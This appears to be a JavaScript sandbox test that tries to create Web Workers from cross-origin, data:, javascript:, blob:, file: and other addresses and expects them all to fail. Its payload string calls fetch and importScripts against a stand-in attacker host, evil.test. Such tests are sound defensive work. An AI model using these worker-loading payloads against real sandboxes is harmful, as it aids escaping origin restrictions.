// Workers from every kind of address: of another site, of this one, of text, of nothing.
// includes: /There is no file 'http:\/\/w15-addresses\.[^']*' for a worker to run\./
// includes: errors 16
// ends: quiet

const text = "console.log('WE' + 'NT'); for (const out of [() => fetch('http://evil.test/'), () => importScripts('http://evil.test/')]) try { out(); } catch {}";
const addresses = [
  'http://evil.test/worker.js',
  'https://evil.test/worker.js',
  '//evil.test/worker.js',
  'SITE',
  'SITEruntime/index.html',
  'ws://evil.test/',
  `data:text/javascript,${encodeURIComponent(text)}`,
  `data:text/javascript;base64,${btoa(text)}`,
  `javascript:${text}`,
  'blob:http://evil.test/0',
  'blob:null/00000000-0000-0000-0000-000000000000',
  'about:blank',
  'file://evil.test/worker.js',
  'view-source:http://evil.test/',
  'filesystem:http://evil.test/x',
  new URL('http://evil.test/worker.ts'),
];
let errors = 0;
for (const address of addresses)
  for (const type of ['module'])
    new Worker(address, { type }).onerror = (event) => {
      event.preventDefault();
      errors++;
    };
try {
  new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
} catch {}
setTimeout(() => console.log('errors', errors), 50);
